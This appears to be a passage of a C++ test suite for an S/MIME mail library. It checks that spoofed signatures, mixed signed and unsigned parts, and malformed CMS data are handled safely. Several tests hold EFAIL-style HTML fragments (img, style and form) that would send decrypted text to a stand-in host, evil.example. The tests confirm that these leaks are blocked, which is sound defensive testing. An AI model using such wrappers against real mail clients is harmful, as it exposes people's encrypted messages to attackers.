// SPDX-License-Identifier: GPL-3.0-or-later
#include "smime/CmsParts.h"
#include "smime/MailParts.h"
#include "smime/SmimeTesting.h"

using namespace smime;
using namespace smimetest;

class TestSpoofing : public QObject
{
    Q_OBJECT

private:
    support::WithProvider m_provider;
    World m_world;

private Q_SLOTS:
    void oneBadSignerOfTwoCounts()
    {
        const QByteArray entity = textPart("Both of us agree.");
        const QByteArray message = header() + signedPart(entity, detachedBy({m_world.alice, m_world.mallory}, entity));
        const OpenedMessage opened = m_world.open(message);
        const QList<smime::Signer> &signers = opened.verdict.signature.signers;
        QCOMPARE(signers.size(), 2);
        // A SET OF is sorted by its octets (X.690 section 11.6), so either may come first.
        QCOMPARE(std::count_if(signers.begin(), signers.end(), [](const smime::Signer &signer) { return signer.axes.identity == smime::Identity::Match; }), 1);
        QCOMPARE(opened.verdict.summary, Summary::Impersonated);
    }

    void aKeyOfTwoPeopleSaysOfNeitherThatItWasThisOne_data()
    {
        QTest::addColumn<QString>("secondAddress");
        QTest::addColumn<QByteArray>("notAfter");
        QTest::addColumn<unsigned>("flags");
        QTest::addColumn<Summary>("summary");
        const QByteArray later = "20350101000000Z";
        QTest::newRow("two people") << u"mallory@example.org"_s << later << 0U << Summary::Unverified;
        QTest::newRow("two people, bare") << u"mallory@example.org"_s << later << unsigned(CMS_NOATTR) << Summary::Unverified;
        QTest::newRow("two people, one certificate has expired") << u"mallory@example.org"_s << QByteArray("20260101000000Z") << 0U << Summary::Unverified;
        QTest::newRow("renewed") << u"ALICE@example.org"_s << later << 0U << Summary::Verified;
        // She was "unverified" for the certificate of no worth, since it lasts longer.
        QTest::newRow("nobody vouches for the other") << u"mallory@example.org"_s << QByteArray() << 0U << Summary::Verified;
        // The other did not sign: the certificate's digest is signed as well (RFC 5035).
        QTest::newRow("the certificate is signed") << u"mallory@example.org"_s << later << unsigned(CMS_CADES) << Summary::Verified;
    }
    void aKeyOfTwoPeopleSaysOfNeitherThatItWasThisOne()
    {
        // The signature names a key, and one authority certified that for Alice and for Mallory: she was shown as its signer, or Alice was, as the order fell.
        QFETCH(QString, secondAddress);
        QFETCH(QByteArray, notAfter);
        QFETCH(unsigned, flags);
        const support::pkix::Entity by = support::pkix::entityOf(m_world.authority);
        support::pkix::Spec spec;
        spec.name = {{"CN", "Alice"}};
        spec.extensions = {{"subjectKeyIdentifier", "hash"}, {"subjectAltName", "email:alice@example.org"}};
        const support::pkix::Entity alice = support::pkix::issue(&by, spec);
        spec.key = alice.key;
        spec.notAfter = notAfter.isEmpty() ? QByteArray("20360101000000Z") : notAfter;
        spec.extensions = {{"subjectKeyIdentifier", "hash"}, {"subjectAltName", "email:" + secondAddress.toLatin1()}};
        const support::pkix::Entity second = support::pkix::issue(notAfter.isEmpty() ? nullptr : &by, spec);
        const QByteArray entity = textPart("I agree.");
        const OpenedMessage opened = m_world.open(header() + signedPart(entity, signatureByKeyIdentifier(alice, {alice, second}, entity, flags)));
        QTEST(opened.verdict.summary, "summary");
        QCOMPARE(opened.verdict.warnings.contains(u"shared-key"_s), opened.verdict.summary != Summary::Verified);
    }

    /// Two thousand, each asked for its path, kept the reader waiting for half a minute.
    void aKeyInManyCertificatesIsNobodys()
    {
        const support::pkix::Entity by = support::pkix::entityOf(m_world.authority);
        support::pkix::Spec spec;
        spec.name = {{"CN", "Alice"}};
        spec.extensions = {{"subjectKeyIdentifier", "hash"}, {"subjectAltName", "email:alice@example.org"}};
        QList<support::pkix::Entity> all{support::pkix::issue(&by, spec)};
        spec.key = all.first().key;
        const QByteArray entity = textPart("I agree.");
        const auto summaryWith = [&](int others, const QByteArray &person) {
            all.resize(1);
            for (int i = 1; i <= others; ++i) {
                spec.extensions = {{"subjectKeyIdentifier", "hash"}, {"subjectAltName", "email:" + person + "@example.org"},
                                   {"nsComment", QByteArray(400 + i, 'x')}}; // a SET OF puts the shortest first
                all.append(support::pkix::issue(nullptr, spec));
            }
            return m_world.open(header() + signedPart(entity, signatureByKeyIdentifier(all.first(), all, entity, 0U))).verdict.summary;
        };
        QCOMPARE(summaryWith(99, "alice"), Summary::Verified); // as if renewed
        QCOMPARE(summaryWith(100, "alice"), Summary::Unverified); // and who comes behind these is not seen
        QCOMPARE(summaryWith(5, "p"), Summary::Verified);
        QCOMPARE(summaryWith(6, "p"), Summary::Unverified);
    }

    void certificatesAloneAreNoSignature()
    {
        // SignedData without signers (RFC 8551 section 3.8), with Alice's certificate: as openssl crl2pkcs7 -nocrl makes it.
        const QByteArray certificate = m_world.alice.der();
        const auto tlv = [](char tag, const QByteArray &content) {
            QByteArray length;
            for (qsizetype n = content.size(); n > 0; n >>= 8)
                length.prepend(static_cast<char>(n & 0xff));
            const bool isShort = content.size() < 128;
            return QByteArray(1, tag) + (isShort ? QByteArray(1, static_cast<char>(content.size())) : static_cast<char>(0x80 | length.size()) + length) + content;
        };
        const auto unsignedData = [&](const QByteArray &content) {
            const QByteArray signedData = tlv(0x30, QByteArray::fromHex("020101") + tlv(0x31, {})
                + tlv(0x30, QByteArray::fromHex("06092a864886f70d010701") + content) + tlv('\xa0', certificate) + tlv(0x31, {}));
            return tlv(0x30, QByteArray::fromHex("06092a864886f70d010702") + tlv('\xa0', signedData));
        };
        const QByteArray der = unsignedData({});
        const OpenedMessage opened = m_world.open(header() + cmsPart(der, "application/pkcs7-mime; smime-type=signed-data; name=smime.p7m"));
        QCOMPARE(opened.verdict.summary, Summary::Plain);
        QVERIFY(opened.verdict.warnings.contains(u"certificates-only"_s));
        QCOMPARE(opened.certificates, QList<QByteArray>{certificate});
        const QByteArray entity = textPart("Nobody signed me.");
        const OpenedMessage detached = m_world.open(header() + signedPart(entity, der));
        QCOMPARE(detached.verdict.summary, Summary::Plain);
        QCOMPARE(text(detached), u"Nobody signed me."_s);
        // The same for a letter inside, whose signers were taken away; and wrapping it so again and again keeps nobody busy.
        QByteArray wrapped = cmsPart(unsignedData(tlv('\xa0', tlv(0x04, entity))), "application/pkcs7-mime");
        const OpenedMessage inside = m_world.open(header() + wrapped);
        QCOMPARE(inside.verdict.summary, Summary::Plain);
        QCOMPARE(inside.verdict.signature.axes.integrity, smime::Integrity::None);
        QCOMPARE(text(inside), u"Nobody signed me."_s);
        for (int i = 0; i < 12; ++i)
            wrapped = cmsPart(unsignedData(tlv('\xa0', tlv(0x04, wrapped))), "application/pkcs7-mime");
        QCOMPARE(m_world.open(header() + wrapped).verdict.summary, Summary::Malformed);
    }

    void footerOfAMailingListStaysOutside()
    {
        const QByteArray entity = textPart("The signed words.");
        const QByteArray message = header() + multipart("mixed", {signedPart(entity, detachedBy({m_world.alice}, entity)), textPart("List footer.")});
        const OpenedMessage opened = m_world.open(message);
        QCOMPARE(opened.verdict.summary, Summary::Unverified);
        QCOMPARE(opened.verdict.signature.coverage, Coverage::Part);
        QVERIFY(opened.verdict.warnings.contains(u"signed-part"_s));
        QCOMPARE(text(opened), u"The signed words."_s);
        QCOMPARE(opened.unprotected.size(), 1);
        QCOMPARE(opened.unprotected[0].text.trimmed(), u"List footer."_s);
    }

    void textBeforeTheSignedPartIsNotJoinedWithIt()
    {
        const QByteArray entity = textPart("I agree.");
        const QByteArray message = header() + multipart("mixed", {textPart("Mallory gets all my money."), signedPart(entity, detachedBy({m_world.alice}, entity))});
        const OpenedMessage opened = m_world.open(message);
        QVERIFY(opened.verdict.summary != Summary::Verified);
        QVERIFY(!opened.text.contains(u"Mallory"_s));
        QCOMPARE(opened.unprotected[0].text.trimmed(), u"Mallory gets all my money."_s);
    }

    void thirdPartInsideMultipartSignedIsOutsideTheSignature()
    {
        const QByteArray entity = textPart("Signed.");
        QByteArray message = header() + signedPart(entity, detachedBy({m_world.alice}, entity));
        message.replace("--sig--", "--sig\r\n" + textPart("Appended.") + "\r\n--sig--");
        const OpenedMessage opened = m_world.open(message);
        QCOMPARE(opened.verdict.signature.coverage, Coverage::Part);
        QVERIFY(opened.verdict.summary != Summary::Verified);
        QCOMPARE(text(opened), u"Signed."_s);
        QCOMPARE(opened.unprotected[0].text.trimmed(), u"Appended."_s);
    }

    void signatureThatCarriesOtherContentIsAltered()
    {
        const QByteArray entity = textPart("What is shown.");
        const QByteArray other = opaqueBy(m_world.alice, textPart("What was signed."));
        const OpenedMessage opened = m_world.open(header() + signedPart(entity, other));
        QCOMPARE(opened.verdict.summary, Summary::Altered);
    }

    void loneReturnsHideNothingThatWasSigned()
    {
        // Canonical, it is what was signed; read as it stands, the first part would be a preamble, and the text a field.
        const QByteArray parts = multipart("mixed", {textPart("I disagree."), textPart("Pay Mallory.")});
        for (const QByteArray &entity : {parts, textPart("I disagree.\r\nPay Mallory.")}) {
            const QByteArray mail = header() + signedPart(entity, detachedBy({m_world.alice}, entity));
            QCOMPARE(m_world.open(mail).verdict.summary, Summary::Verified);
            const QByteArray before = entity == parts ? "\r\n\r\n--out" : "\r\n\r\nI disagree.\r\n";
            const OpenedMessage opened = m_world.open(QByteArray(mail).replace(before, QByteArray(before).replace("\r\n", "\r")));
            QCOMPARE(opened.verdict.summary, Summary::Altered);
            QVERIFY(opened.diagnosis && opened.diagnosis->damage == SignatureDamage::LineEnds);
        }
    }

    void signedTextThatBeginsLikeAFieldIsShownWhole()
    {
        for (const QByteArray words : {"Note: I do not agree.\r\n\r\nPay Mallory.\r\n", "I do not agree with\r\nSubject: pay\r\n\r\nPay Mallory.\r\n",
                                       "Subject: I do not agree.\r\nContent-Note: not at all\r\n\r\nPay Mallory.\r\n"})
            for (const QByteArray &mail : {cmsPart(opaqueBy(m_world.alice, words)), signedPart(words, detachedBy({m_world.alice}, words))}) {
                const OpenedMessage opened = m_world.open(header() + mail);
                QCOMPARE(opened.verdict.summary, Summary::Verified);
                QCOMPARE(text(opened), QString::fromLatin1(words).remove(u'\r').trimmed());
            }
    }

    void missingSignaturePartIsNotSilentlyUnsigned()
    {
        const QByteArray entity = textPart("Trust me.");
        const QByteArray message = header() + "Content-Type: multipart/signed; protocol=\"application/pkcs7-signature\"; boundary=\"sig\"\r\n\r\n--sig\r\n" + entity + "\r\n--sig--\r\n";
        QCOMPARE(m_world.open(message).verdict.summary, Summary::Altered);
        QCOMPARE(m_world.open(header() + signedPart(entity, "garbage")).verdict.summary, Summary::Altered);
    }

    void signatureAroundCiphertextSaysOnlyWhoSentIt()
    {
        // Mallory takes Alice's ciphertext and signs it: must not look as if Mallory had written it.
        const QByteArray inner = cmsPart(encryptedFor(m_world.bob, textPart("Secret of Alice.")));
        const QByteArray message = header("mallory@example.org") + signedPart(inner, detachedBy({m_world.mallory}, inner));
        const OpenedMessage opened = m_world.open(message);
        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
        QVERIFY(opened.verdict.warnings.contains(u"signed-outside-encryption"_s));
        QCOMPARE(opened.verdict.signature.axes.integrity, Integrity::None);
        QCOMPARE(opened.verdict.layers.first().signature.axes.integrity, Integrity::Valid);
    }

    void tripleWrappedMailIsVerifiedByBothItsSignatures()
    {
        const QByteArray entity = textPart("Wrapped three times.");
        const QByteArray inner = signedPart(entity, detachedBy({m_world.alice}, entity));
        const QByteArray middle = cmsPart(encryptedFor(m_world.bob, inner));
        OpenedMessage opened = m_world.open(header() + signedPart(middle, detachedBy({m_world.alice}, middle)));
        QCOMPARE(opened.verdict.summary, Summary::Verified);
        QCOMPARE(opened.verdict.layers.size(), 3);
        opened = m_world.open(header("mallory@example.org") + signedPart(middle, detachedBy({m_world.mallory}, middle)));
        QCOMPARE(opened.verdict.summary, Summary::Impersonated);
        // Each layer keeps a verdict of its own.
        const auto layer = [&opened](qsizetype i) { return opened.verdict.layers[i]; };
        QCOMPARE(layer(0).signature.signers.value(0).addresses, QStringList{u"mallory@example.org"_s});
        QCOMPARE(layer(0).signature.axes.identity, smime::Identity::Match);
        QCOMPARE(layer(1).encryption.state, EncryptionState::Decrypted);
        QCOMPARE(layer(2).signature.signers.value(0).addresses, QStringList{u"alice@example.org"_s});
        QCOMPARE(layer(2).signature.axes.identity, smime::Identity::Mismatch);
    }

    void ciphertextBelowOtherTextIsNeverJoinedWithIt_data()
    {
        QTest::addColumn<QByteArray>("before");
        QTest::addColumn<QByteArray>("after");
        QTest::newRow("image") << QByteArray("<img src=\"http://evil.example/") << QByteArray("\">");
        QTest::newRow("style") << QByteArray("<style>body{background:url(http://evil.example/") << QByteArray(")}</style>");
        QTest::newRow("form") << QByteArray("<form action=\"http://evil.example/\"><textarea name=x>") << QByteArray("</textarea></form>");
    }

    void ciphertextBelowOtherTextIsNeverJoinedWithIt()
    {
        QFETCH(QByteArray, before);
        QFETCH(QByteArray, after);
        const QByteArray secret = cmsPart(encryptedFor(m_world.bob, textPart("The secret of Bob."), provider::ContentCipher::Aes256Cbc));
        const OpenedMessage opened = m_world.open(header() + multipart("mixed", {htmlPart(before), secret, htmlPart(after)}));
        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
        QVERIFY(opened.verdict.warnings.contains(u"encrypted-part"_s));
        QCOMPARE(text(opened), u"The secret of Bob."_s);
        QVERIFY(!opened.html);
        for (const UnprotectedPart &part : opened.unprotected)
            QVERIFY(!part.text.contains(u"secret of Bob"_s));
    }

    void eachOfSeveralProtectedPartsIsOpenedByItself()
    {
        const QByteArray first = cmsPart(encryptedFor(m_world.bob, textPart("The first secret.")));
        const QByteArray second = cmsPart(encryptedFor(m_world.bob, htmlPart("<p>The <b>second</b> secret.</p>")));
        const QByteArray entity = textPart("Signed by Mallory.");
        const QByteArray third = signedPart(entity, detachedBy({m_world.mallory}, entity));
        const OpenedMessage opened = m_world.open(header() + multipart("mixed", {htmlPart("<img src=\"http://evil.example/"), first, second, third, htmlPart("\">")}));
        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
        QVERIFY(opened.verdict.warnings.contains(u"further-part"_s));
        QCOMPARE(text(opened), u"The first secret."_s);
        QCOMPARE(opened.unprotected.size(), 2);
        QCOMPARE(opened.further.size(), 2);
        QVERIFY(opened.attachments.isEmpty()); // They were listed as smime.p7m, "not protected".
        QCOMPARE(opened.further[0].part, u"1.3"_s);
        QCOMPARE(opened.further[0].verdict.summary, Summary::Decrypted);
        QCOMPARE(text(opened.further[0]), u"The second secret."_s);
        QVERIFY(!opened.further[0].html && opened.further[0].unprotected.isEmpty());
        // Mallory's signature says nothing of the other parts, nor they of it; and it is not Alice's.
        QCOMPARE(opened.further[1].part, u"1.4"_s);
        QCOMPARE(opened.further[1].verdict.summary, Summary::Impersonated);
        QCOMPARE(opened.further[1].verdict.encryption.state, EncryptionState::None);
        QCOMPARE(opened.further[1].verdict.signature.coverage, Coverage::Part);
        QCOMPARE(text(opened.further[1]), u"Signed by Mallory."_s);
        // Alice's own signature on a part does not make the part a verified letter.
        const OpenedMessage own = m_world.open(header() + multipart("mixed", {first, signedPart(entity, detachedBy({m_world.alice}, entity))}));
        QCOMPARE(own.further.at(0).verdict.summary, Summary::Unverified);
    }

    void furtherPartsAreBoundedInNumberAndDepth()
    {
        const QByteArray nested = multipart("mixed", {cmsPart(encryptedFor(m_world.bob, textPart("A"))), cmsPart(encryptedFor(m_world.bob, textPart("B")))});
        QList<QByteArray> parts(30, cmsPart(encryptedFor(m_world.bob, nested)));
        const OpenedMessage opened = m_world.open(header() + multipart("mixed", parts));
        QCOMPARE(text(opened), u"A"_s);
        QCOMPARE(opened.further.size(), 8);
        for (const OpenedMessage &part : opened.further) {
            QCOMPARE(text(part), u"A"_s);
            QVERIFY(part.further.empty());
        }
    }

    void aFurtherPartThatCannotBeOpenedIsSaid()
    {
        const QByteArray first = cmsPart(encryptedFor(m_world.bob, textPart("For Bob.")));
        const QByteArray second = cmsPart(encryptedFor(m_world.alice, textPart("For Alice.")));
        const OpenedMessage opened = m_world.open(header() + multipart("mixed", {first, second}));
        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
        QCOMPARE(opened.further.at(0).verdict.summary, Summary::CannotDecrypt);
        QVERIFY(opened.needsKey() && opened.isEncrypted());
    }

    void htmlOutOfAnUnauthenticatedCipherIsTextOnly()
    {
        const QByteArray html = htmlPart("<p>Hello <img src=\"http://evil.example/x.png\"></p>");
        const QByteArray alterable = cmsPart(encryptedFor(m_world.bob, html, provider::ContentCipher::Aes256Cbc));
        // Whoever altered it may encrypt it once more, in a better way.
        for (const QByteArray &secret : {alterable, cmsPart(encryptedFor(m_world.bob, alterable))}) {
            const OpenedMessage opened = m_world.open(header() + secret);
            QVERIFY(!opened.html && opened.text.contains(u"Hello"_s) && opened.verdict.warnings.contains(u"not-authenticated"_s));
        }
        const OpenedMessage opened = m_world.open(header() + cmsPart(encryptedFor(m_world.bob, html)));
        QVERIFY(opened.html && !opened.html->contains(u"evil"_s) && opened.verdict.warnings.contains(u"remote-content-blocked"_s));
    }

    void onlyHtmlWithoutASealHasColours()
    {
        const QByteArray entity = htmlPart("<p style=\"color:white\">Not </p><p>agreed.</p>");
        QVERIFY(m_world.open(header() + entity).html->contains(u"color"_s));
        const QByteArray message = header() + signedPart(entity, detachedBy({m_world.alice}, entity));
        QVERIFY(!m_world.open(message).html->contains(u"color"_s));
        QByteArray altered = message;
        const OpenedMessage opened = m_world.open(altered.replace("agreed", "Agreed"));
        QCOMPARE(opened.verdict.summary, Summary::Altered);
        QVERIFY(!opened.html->contains(u"color"_s));
    }

    void foreignCiphertextInsideSignedMailStaysClosed()
    {
        // Covert content: Mallory wraps a message of Alice to Bob into her own signed mail, hoping for a reply that quotes it.
        const QByteArray covert = cmsPart(encryptedFor(m_world.bob, textPart("Secret of Alice.")));
        const QByteArray entity = multipart("mixed", {textPart("Can you read this?"), covert});
        const OpenedMessage opened = m_world.open(header("mallory@example.org") + signedPart(entity, detachedBy({m_world.mallory}, entity)));
        QCOMPARE(opened.verdict.summary, Summary::Verified);
        QCOMPARE(text(opened), u"Can you read this?"_s);
        QCOMPARE(opened.attachments.size(), 1);
        QVERIFY(!opened.attachments[0].content().contains("Secret"));
    }

    void forwardedSignedMailLendsItsSealToNobody()
    {
        const QByteArray entity = textPart("Signed by Alice.");
        const QByteArray inner = header() + signedPart(entity, detachedBy({m_world.alice}, entity));
        const QByteArray message = header() + multipart("mixed", {textPart("Look what Alice wrote."), "Content-Type: message/rfc822\r\n\r\n" + inner});
        const OpenedMessage opened = m_world.open(message);
        QCOMPARE(opened.verdict.summary, Summary::Plain);
        QVERIFY(opened.verdict.layers.isEmpty());
        QCOMPARE(opened.attachments.size(), 1);
    }

    void layersByAnyNameAreFound_data()
    {
        QTest::addColumn<QByteArray>("type");
        QTest::newRow("octet-stream p7m") << QByteArray("application/octet-stream; name=smime.p7m");
        QTest::newRow("x-pkcs7-mime") << QByteArray("application/x-pkcs7-mime; name=smime.p7m");
        QTest::newRow("without parameters") << QByteArray("application/pkcs7-mime");
        QTest::newRow("wrong smime-type") << QByteArray("application/pkcs7-mime; smime-type=enveloped-data");
    }

    void layersByAnyNameAreFound()
    {
        QFETCH(QByteArray, type);
        const OpenedMessage opened = m_world.open(header() + cmsPart(opaqueBy(m_world.alice, textPart("By any name.")), type));
        QCOMPARE(opened.verdict.summary, Summary::Verified);
        QCOMPARE(text(opened), u"By any name."_s);
    }

    void fileThatWasSignedIsAnAttachmentAndNoLetter_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QByteArray>("type");
        QTest::addColumn<bool>("isLetter");
        const QByteArray file = "application/pkcs7-mime; name=\"invoice.xml.p7m\"";
        QTest::newRow("invoice") << QByteArray("<?xml version=\"1.0\"?>\r\n<invoice/>\r\n") << file << false;
        QTest::newRow("contract as octets") << QByteArray("%PDF-1.7\n1 0 obj") << QByteArray("application/octet-stream; name=\"contract.pdf.p7m\"") << false;
        QTest::newRow("words with a colon") << QByteArray("Dear Bob: I owe you five.\r\n\r\nAlice\r\n") << file << false;
        QTest::newRow("a letter under any name") << textPart("Signed.") << file << true;
        QTest::newRow("words called a letter") << QByteArray("Signed.\r\n") << QByteArray("application/pkcs7-mime; smime-type=signed-data") << true;
        QTest::newRow("words by a letter's name") << QByteArray("Signed.\r\n") << QByteArray("application/octet-stream; name=SMIME.P7M") << true;
    }

    void fileThatWasSignedIsAnAttachmentAndNoLetter()
    {
        QFETCH(QByteArray, content);
        QFETCH(QByteArray, type);
        QFETCH(bool, isLetter);
        const QByteArray message = header("mallory@example.org") + multipart("mixed", {textPart("Please see the file."), cmsPart(opaqueBy(m_world.alice, content), type)});
        const OpenedMessage opened = m_world.open(message);
        QCOMPARE(opened.verdict.summary, isLetter ? Summary::Impersonated : Summary::Plain);
        QCOMPARE(text(opened), isLetter ? u"Signed."_s : u"Please see the file."_s);
        QCOMPARE(opened.attachments.size(), isLetter ? 0 : 1);
    }

    void fileThatWasEncryptedIsAnAttachment_data()
    {
        QTest::addColumn<QByteArray>("content");
        QTest::addColumn<QString>("name");
        const QByteArray contract = "%PDF-1.7\n1 0 obj";
        QTest::newRow("contract") << contract << u"contract.pdf"_s;
        QTest::newRow("contract that was signed before") << opaqueBy(m_world.alice, contract) << u"contract.pdf.p7m"_s; // which is none before it is opened, too
    }

    void fileThatWasEncryptedIsAnAttachment()
    {
        QFETCH(QByteArray, content);
        const QByteArray file = cmsPart(encryptedFor(m_world.bob, content), "application/pkcs7-mime; name=\"contract.pdf.p7m\"");
        const OpenedMessage opened = m_world.open(header() + multipart("mixed", {textPart("Please sign."), file}));
        QCOMPARE(opened.verdict.summary, Summary::Decrypted);
        QVERIFY(opened.text.isEmpty());
        QCOMPARE(opened.attachments.size(), 1);
        QTEST(opened.attachments[0].name, "name");
        QCOMPARE(opened.attachments[0].content(), content);
        QVERIFY(opened.attachments[0].protection == CryptographicStatus::Encrypted);
        QCOMPARE(opened.unprotected[0].text.trimmed(), u"Please sign."_s);
    }

    void fileThatWasSealedAloneIsAnAttachment()
    {
        // By a script that puts no header before it, and called a letter.
        const QByteArray file("%PDF-1.7\n\0\xff", 11);
        for (const auto &[der, ending] : {std::pair(opaqueBy(m_world.alice, file), ".p7m\""), std::pair(encryptedFor(m_world.bob, file), ".P7Z\"")}) {
            const OpenedMessage opened = m_world.open(header() + cmsPart(der, "application/pkcs7-mime; smime-type=any; name=\"contract.pdf" + QByteArray(ending)));
            QVERIFY(opened.text.isEmpty());
            QCOMPARE(opened.attachments.size(), 1);
            QCOMPARE(opened.attachments[0].name, u"contract.pdf"_s);
            QCOMPARE(opened.attachments[0].content(), file);
            QVERIFY(opened.attachments[0].protection != CryptographicStatus::None);
        }
    }

    void signedHtmlIsNotCutOffInSilence()
    {
        // A letter whose end nobody sees is signed all the same.
        const QByteArray entity = htmlPart("<p>Agreed.</p>" + QByteArray("<b></b>").repeated(100'010) + "<p>For 5000 a day.</p>");
        const OpenedMessage opened = m_world.open(header() + signedPart(entity, detachedBy({m_world.alice}, entity)));
        QCOMPARE(opened.text.trimmed(), u"Agreed."_s);
        QVERIFY(opened.verdict.warnings.contains(u"html-cut-off"_s));
    }

    void endlessWrappingEndsWithAnError()
    {
        QByteArray entity = textPart("Deep inside.");
        for (int i = 0; i < 12; ++i)
            entity = cmsPart(opaqueBy(m_world.alice, entity), "application/pkcs7-mime; smime-type=signed-data");
        const OpenedMessage opened = m_world.open(header() + entity);
        QCOMPARE(opened.verdict.summary, Summary::Malformed);
        QCOMPARE(opened.fault->code, base::ErrorCode::MessageTooDeep);
    }

    void damagedCmsSaysWhere_data()
    {
        QTest::addColumn<QByteArray>("body");
        QTest::newRow("empty") << QByteArray();
        QTest::newRow("garbage") << QByteArray("this is no CMS at all");
        QTest::newRow("cut") << QByteArray::fromHex("308203e806092a864886f70d010702a08203");
    }

    void damagedCmsSaysWhere()
    {
        QFETCH(QByteArray, body);
        const OpenedMessage opened = m_world.open(header() + cmsPart(body));
        QCOMPARE(opened.verdict.summary, Summary::Malformed);
        QVERIFY2(opened.fault->detail.contains(u"part 1"_s), qPrintable(opened.fault->detail));
        QCOMPARE(m_world.open("").verdict.summary, Summary::Malformed);
    }

    void whatIsSealedInAnUnknownWayIsNotPlain()
    {
        // Data that is signed and encrypted at once was PKCS #7's, and is no part of CMS.
        QByteArray der = opaqueBy(m_world.alice, textPart("Sealed."));
        der.replace(QByteArray::fromHex("2a864886f70d010702"), QByteArray::fromHex("2a864886f70d010704"));
        const OpenedMessage opened = m_world.open(header() + cmsPart(der, "application/pkcs7-mime"));
        QCOMPARE(opened.verdict.summary, Summary::CannotDecrypt);
        QCOMPARE(opened.fault->code, base::ErrorCode::AlgorithmUnsupported);
        QVERIFY(opened.text.isEmpty());
        // A file that is only called so may be anything.
        QCOMPARE(m_world.open(header() + cmsPart(der, "application/octet-stream; name=data.p7m")).verdict.summary, Summary::Plain);
    }

    void objectThatGrewWithinHasNoFooter()
    {
        // As servers make the line ends of a binary part.
        QByteArray der = opaqueBy(m_world.alice, textPart("One.\r\nTwo."));
        const OpenedMessage opened = m_world.open(header() + cmsPart(der.replace("\n", "\r\n")));
        QCOMPARE(opened.verdict.summary, Summary::Malformed);
        QVERIFY(!opened.diagnosis);
    }

    void expiredCertificateCountsIfTheMailIsKnownToBeOlder()
    {
        SealRequest seal = m_world.sealRequest(lunchDraft());
        seal.encryption = Encryption::None;
        OpenRequest request = m_world.openRequest(sealed(seal), {});
        request.at = testTime().addYears(2);
        QCOMPARE(open(request).verdict.signature.axes.time, Time::Expired);
        QCOMPARE(open(request).verdict.summary, Summary::Unverified);
        request.firstReceived = testTime().addDays(1);
        QCOMPARE(open(request).verdict.signature.axes.time, Time::ExpiredSince);
        QCOMPARE(open(request).verdict.summary, Summary::Verified);
        request.firstReceived = testTime().addYears(1).addDays(1);
        QCOMPARE(open(request).verdict.summary, Summary::Unverified);
    }

    void clocksMayDifferByFiveMinutes()
    {
        SealRequest seal = m_world.sealRequest(lunchDraft());
        seal.encryption = Encryption::None;
        OpenRequest request = m_world.openRequest(sealed(seal), {});
        const QDateTime end = support::factsOf(m_world.alice.certificate).notAfter;
        request.at = end.addSecs(4 * 60);
        QCOMPARE(open(request).verdict.signature.axes.time, Time::Valid);
        request.at = end.addSecs(6 * 60);
        QCOMPARE(open(request).verdict.signature.axes.time, Time::Expired);
    }

    void signerIsAskedForInMemoryOnlyIfBound()
    {
        const QByteArray entity = textPart("Remember me.");
        OpenRequest request = m_world.openRequest(header() + signedPart(entity, detachedBy({m_world.alice}, entity)), {});
        QStringList asked;
        request.material.recall = [&asked](const QString &address, const QByteArray &) {
            asked.append(address);
            return Recollection{Continuity::Same, 12, testTime()};
        };
        const OpenedMessage opened = open(request);
        QCOMPARE(asked, QStringList{u"alice@example.org"_s});
        QCOMPARE(opened.verdict.signature.continuity, Continuity::Same);
        QCOMPARE(opened.verdict.signature.continuityCount, 12);
        request.message = header() + signedPart(entity, detachedBy({m_world.mallory}, entity));
        QCOMPARE(open(request).verdict.signature.continuity, Continuity::NotChecked);
        // Each layer by itself; the outermost of the sender's speaks for the letter.
        request.message = header() + cmsPart(opaqueBy(m_world.mallory, signedPart(entity, detachedBy({m_world.alice}, entity))), "application/pkcs7-mime; smime-type=signed-data");
        const Verdict wrapped = open(request).verdict;
        QCOMPARE(wrapped.layers.size(), 2);
        QCOMPARE(wrapped.layers[0].signature.continuity, Continuity::NotChecked);
        QCOMPARE(wrapped.layers[1].signature.continuity, Continuity::Same);
        QCOMPARE(wrapped.signature.continuity, Continuity::Same);
    }

    void capabilitiesAreLearntFromTheSenderAlone()
    {
        // What Mallory signed lies in Alice's letter.
        provider::CmsOptions others = atTestTime();
        others.capabilitiesDer = QByteArray::fromHex("300d300b0609608648016503040102");
        const QByteArray entity = textPart("By Mallory.");
        const QByteArray inner = signedPart(entity, support::detached(entity, {m_world.mallory}, others));
        const OpenedMessage opened = m_world.open(header() + cmsPart(opaqueBy(m_world.alice, inner), "application/pkcs7-mime; smime-type=signed-data"));
        QCOMPARE(opened.verdict.summary, Summary::Verified);
        QVERIFY(!opened.signerCapabilitiesDer.isEmpty());
        QVERIFY(opened.signerCapabilitiesDer != others.capabilitiesDer);
    }

    void revokedCertificateIsNeverVerified()
    {
        provider::CrlFacts revocation;
        revocation.number = "01";
        revocation.thisUpdate = testTime().addDays(-1);
        revocation.nextUpdate = testTime().addDays(30);
        revocation.revoked = {{support::factsOf(m_world.alice.certificate).serial, testTime().addDays(-1), provider::RevocationReason::KeyCompromise}};
        const auto crl = provider::issueCrl(m_world.authority.certificate, m_world.authority.key, revocation);
        QVERIFY(crl.isOk());
        const QByteArray entity = textPart("Too late.");
        OpenRequest request = m_world.openRequest(header() + signedPart(entity, detachedBy({m_world.alice}, entity)), {});
        request.material.crls = {*crl};
        const OpenedMessage opened = open(request);
        QCOMPARE(opened.verdict.signature.axes.revocation, Revocation::Revoked);
        QCOMPARE(opened.verdict.summary, Summary::Unverified);
        SealRequest seal = m_world.sealRequest(lunchDraft());
        seal.recipients = {{{u"Alice"_s, u"alice@example.org"_s}, RecipientRole::To, m_world.alice.der(), {}}};
        seal.crls = {*crl};
        QCOMPARE(smime::seal(seal).error().code, base::ErrorCode::CertificateRevoked);
    }

    /// What the reader has at hand comes before what a stranger sends along.
    void aNamesakeOfTheResponderHidesNoRevocation()
    {
        namespace pkix = support::pkix;
        const pkix::Entity root = pkix::entityOf(m_world.authority);
        pkix::Spec spec{.name = {{"CN", "Responder"}}, .extensions = {{"extendedKeyUsage", "OCSPSigning"}}};
        const pkix::Entity responder = pkix::issue(&root, spec);
        spec.isSignatureBad = true;
        provider::CmsOptions options = atTestTime();
        options.preferredEncryptionCertificate = pkix::issue(&root, spec).der();
        const QByteArray entity = textPart("I am still trusted.");
        OpenRequest request = m_world.openRequest(header() + signedPart(entity, support::detached(entity, {m_world.alice}, options)), {});
        request.material.certificates = {responder.der()};
        request.material.ocspResponses = {
